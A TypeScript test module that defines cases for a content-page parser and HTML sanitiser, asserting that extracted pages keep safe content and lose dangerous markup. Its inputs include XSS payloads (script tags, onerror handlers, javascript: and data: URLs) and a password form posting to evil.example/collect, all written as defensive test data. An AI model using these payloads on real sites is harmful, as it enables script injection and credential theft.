/**
 * What parsing and sanitising a remote content page (article, deals) must give, as cases that run
 * wherever `parseContentPage` runs: in jsdom (`test/ui/parse-content-page.test.tsx`, DOMPurify) and
 * in Chromium (`test/e2e/content-sanitizer.test.ts`, the browser's Sanitizer API and DOMPurify).
 */
import { expect } from 'vitest';
import type { ContentPage } from '../../src/content/parse-content-page';

export interface ContentPageCase {
  name: string;
  /** The fetched page's HTML. */
  html: string;
  /** `fragment` parses markup into an element to query (in the environment running the checks). */
  check: (parsed: ContentPage, fragment: (markup: string) => Element) => void;
}

export function contentPage({ head = '', body }: { head?: string; body: string }): string {
  return `<!doctype html><html lang="en"><head><meta charset="utf-8" />${head}</head><body>${body}</body></html>`;
}

/** The cases for a page served from `origin`. */
export function contentPageCases(origin: string): ContentPageCase[] {
  return [
    {
      name: 'takes the content panel body, the title, the meta description and the nucleus flag',
      html: contentPage({
        head: `<title> Understanding your bill </title>
          <meta name="description" content="What your {provider} bill means." />
          <meta name="nucleus-content" content="true" />`,
        body: `<div class="root"><header>Site chrome</header>
          <div class="content-panel__body"><h2>Your bill</h2><p>Call {customerServicePhone}.</p></div>
          <div class="parsys"><p>Not this one</p></div></div>`,
      }),
      check: (parsed, fragment) => {
        expect(parsed.title).toBe('Understanding your bill');
        expect(parsed.description).toBe('What your Brightwell Energy bill means.');
        expect(parsed.nucleusContent).toBe(true);
        const content = fragment(parsed.markup);
        expect(content.querySelector('h2')?.textContent).toBe('Your bill');
        expect(content.textContent).toContain('Call 0330 088 0456.');
        expect(content.textContent).not.toContain('Not this one');
        expect(content.textContent).not.toContain('Site chrome');
      },
    },
    {
      name: 'falls back to the parsys area when there is no content panel body',
      html: contentPage({
        head: '<title>Carbon monoxide</title><meta name="nucleus-content" content="false" />',
        body: '<div class="aem-Grid"><div class="parsys"><p>From the parsys</p></div></div>',
      }),
      check: (parsed, fragment) => {
        expect(fragment(parsed.markup).textContent).toBe('From the parsys');
        expect(parsed.nucleusContent).toBe(false);
      },
    },
    {
      name: 'removes scripts, event handlers, unsafe links, frames, foreign content, styles, and refreshes, style sheets and base URLs',
      html: contentPage({
        body: `<div class="content-panel__body">
          <p>Safe text</p>
          <!-- a comment -->
          <script>window.pwned = true</script>
          <img src="x" onerror="window.pwned = true" alt="broken">
          <a href="javascript:window.pwned = true">Click me</a>
          <a href="JaVaScRiPt:alert(1)">Shout</a>
          <a href=" data:text/html,<script>alert(1)</script>">Data</a>
          <a href="vbscript:msgbox(1)">Basic</a>
          <iframe src="https://example.com"></iframe>
          <svg><script>alert(1)</script><a href="/inside-svg">Drawn</a></svg>
          <math><mi>x</mi><mtext><a href="/inside-math">Maths</a></mtext></math>
          <noscript><p>Without script</p></noscript>
          <template><p>Templated</p></template>
          <p onclick="window.pwned = true" style="color:red">Styled</p>
          <form action="javascript:alert(1)"><button formaction="javascript:alert(1)">Go</button></form>
          <meta http-equiv="refresh" content="0; url=https://elsewhere.example/">
          <link rel="stylesheet" href="https://elsewhere.example/look.css">
          <base href="https://elsewhere.example/">
        </div>`,
      }),
      check: (parsed, fragment) => {
        const content = fragment(parsed.markup);
        for (const tag of [
          'script',
          'iframe',
          'svg',
          'math',
          'noscript',
          'template',
          'form',
          'meta',
          'link',
          'base',
        ]) {
          expect(content.querySelector(tag), tag).toBeNull();
        }
        expect(parsed.markup).not.toMatch(
          /onerror|onclick|javascript:|data:|vbscript:|style=|<!--|inside-|elsewhere/i,
        );
        const links = [...content.querySelectorAll('a')];
        expect(links.map((link) => link.textContent)).toEqual([
          'Click me',
          'Shout',
          'Data',
          'Basic',
        ]);
        for (const link of links) expect(link.getAttribute('href')).toBeNull();
        expect(content.textContent).toContain('Safe text');
        expect(content.textContent).toContain('Styled');
      },
    },
    {
      name: 'removes forms and every form control, keeping a nucleus form slot for the form scripts',
      html: contentPage({
        head: '<meta name="nucleus-content" content="true" />',
        body: `<div class="content-panel__body">
          <div class="nucleus-form-slot" data-nucleus-form="warm-home-discount-eligibility"></div>
          <form class="nucleus-form" action="https://evil.example/collect" method="post">
            <fieldset><legend>Your account</legend>
              <label for="password">Password</label>
              <input type="password" id="password" name="password" />
              <input type="image" src="/images/go.png" alt="Go" />
              <select name="bank"><option value="x">Bank</option></select>
              <textarea name="notes">Notes</textarea>
            </fieldset>
            <button type="submit" formaction="https://evil.example/">Log in</button>
          </form>
          <p>After the form</p>
        </div>`,
      }),
      check: (parsed, fragment) => {
        const content = fragment(parsed.markup);
        for (const tag of ['form', 'input', 'button', 'select', 'option', 'textarea']) {
          expect(content.querySelector(tag), tag).toBeNull();
        }
        expect(parsed.markup).not.toContain('evil.example');
        const slot = content.querySelector('[data-nucleus-form]');
        expect(slot?.getAttribute('data-nucleus-form')).toBe('warm-home-discount-eligibility');
        expect(slot?.className).toBe('nucleus-form-slot');
        expect(content.textContent).toContain('After the form');
        expect(parsed.nucleusContent).toBe(true);
      },
    },
    {
      name: 'keeps images of this site only, and no srcset anywhere',
      html: contentPage({
        body: `<div class="content-panel__body">
          <img src="/images/relative-root.svg" alt="root" />
          <img src="images/relative.svg" alt="relative" />
          <img src="${origin}/images/absolute.svg" alt="absolute" srcset="https://evil.example/big.png 2x" />
          <img src="https://evil.example/pixel.png" alt="external" />
          <img src="//evil.example/pixel.png" alt="protocol-relative" />
          <img src="  HTTPS://EVIL.EXAMPLE/pixel.png" alt="shouting" />
          <img src="${origin}.evil.example/pixel.png" alt="lookalike" />
          <img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="data" />
          <img alt="no source" />
          <picture><source srcset="https://evil.example/a.webp" type="image/webp" /><img src="/images/p.png" alt="picture" /></picture>
          <table background="https://evil.example/bg.png"><tr><td>Cell</td></tr></table>
        </div>`,
      }),
      check: (parsed, fragment) => {
        const content = fragment(parsed.markup);
        expect(
          [...content.querySelectorAll('img')].map((image) => image.getAttribute('alt')),
        ).toEqual(['root', 'relative', 'absolute', 'picture']);
        expect(content.querySelector('[srcset]')).toBeNull();
        expect(parsed.markup).not.toMatch(/srcset|evil\.example|background=/i);
        expect(content.textContent).toContain('Cell');
      },
    },
    {
      name: 'fills phone placeholders and keeps tel: links free of spaces',
      html: contentPage({
        body: '<div class="content-panel__body"><a href="tel:{gasEmergencyPhone}">{gasEmergencyPhone}</a> <a href="mailto:help@example.com">Mail</a> <a href="https://example.com/a?b=c">Web</a></div>',
      }),
      check: (parsed, fragment) => {
        const links = [...fragment(parsed.markup).querySelectorAll('a')];
        expect(links.map((link) => link.getAttribute('href'))).toEqual([
          'tel:0800111999',
          'mailto:help@example.com',
          'https://example.com/a?b=c',
        ]);
        expect(links[0]?.textContent).toBe('0800 111 999');
      },
    },
  ];
}
